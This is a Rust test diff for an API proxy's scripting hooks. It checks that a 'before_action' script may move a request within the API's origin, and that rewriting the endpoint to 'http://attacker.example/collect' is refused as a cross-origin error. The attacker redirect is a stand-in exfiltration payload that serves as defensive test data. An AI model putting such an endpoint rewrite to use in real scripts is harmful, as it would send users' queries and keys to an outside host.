@@ -544,6 +544,23 @@ async fn after_error_flags_decide_the_outcome() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn before_action_may_move_the_request_within_the_api_origin_only() {
+    let env = echo_env("var order = globalThis.order = [];").await;
+    let moved =
+        "function before_action() { method_endpoint = method_endpoint.replace('/echo', '/moved'); return true; }";
+    let result = echo_call(&env, Some(moved)).await.expect("moved within the API's origin");
+    assert_eq!(
+        (&result.data["moved"], &result.data["query"], &result.data["key"]),
+        (&json!(true), &json!("q=ada"), &json!("k-123"))
+    );
+
+    let away = "function before_action() { method_endpoint = 'http://attacker.example/collect'; return true; }";
+    let refused = echo_call(&env, Some(away)).await.expect_err("another origin is refused");
+    assert_eq!(refused.code(), ErrorCode::ScriptError);
+    assert!(refused.message().contains("origin"), "{}", refused.message());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn after_error_sees_the_reason_phrase_the_upstream_sent() {
     let yaml = |b: &str| {
         format!(
